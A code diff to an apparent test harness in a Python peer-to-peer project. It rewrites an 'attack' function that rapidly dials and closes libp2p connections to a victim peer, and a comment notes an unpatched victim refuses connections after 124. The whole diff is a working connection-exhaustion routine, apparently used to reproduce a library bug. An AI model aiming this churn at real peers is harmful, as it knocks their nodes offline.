@@ -8,10 +8,11 @@ connection ends (docs/library-patches.md).
 
 from __future__ import annotations
 
+import multiaddr
 import trio
+from libp2p.peer.id import ID
 
 from garage_p2p.daemon import Peer
-from garage_p2p.mesh.host import DialError
 
 from . import Target
 
@@ -19,14 +20,31 @@ CYCLE_TIMEOUT = 5.0
 
 
 async def attack(attacker: Peer, victim: Target, *, cycles: int = 140) -> dict[str, int | float | str]:
-    """``cycles`` fresh connections to the victim, each closed before the next."""
+    """``cycles`` fresh connections to the victim, each closed as soon as it is up.
+
+    Each is a new dial (not ``Mesh.connect``, which reuses a live connection), and its close runs
+    in the background: the library's close lingers ~0.2 s, which would only slow the churn down.
+    """
+    network = attacker.mesh.host.get_network()
+    peer = ID.from_base58(victim.peer_id)
+    addr = multiaddr.Multiaddr(victim.addrs[0].split("/p2p/")[0])
     connected = refused = 0
-    for _ in range(cycles):
-        with trio.move_on_after(CYCLE_TIMEOUT):
-            try:
-                await attacker.mesh.connect(victim.peer_id, list(victim.addrs))
+    async with trio.open_nursery() as closing:
+        for _ in range(cycles):
+            with trio.move_on_after(CYCLE_TIMEOUT):
+                try:
+                    conn = await network.dial_addr(addr, peer)
+                except Exception:  # the victim hung up: what an unpatched victim does after 124
+                    refused += 1
+                    continue
                 connected += 1
-            except DialError:
-                refused += 1
-            await attacker.mesh.disconnect(victim.peer_id)
+                closing.start_soon(_close, conn)
     return {"cycles": cycles, "connected": connected, "refused": refused}
+
+
+async def _close(conn) -> None:
+    with trio.move_on_after(CYCLE_TIMEOUT):
+        try:
+            await conn.close()
+        except Exception:  # already closing from the victim's side
+            pass
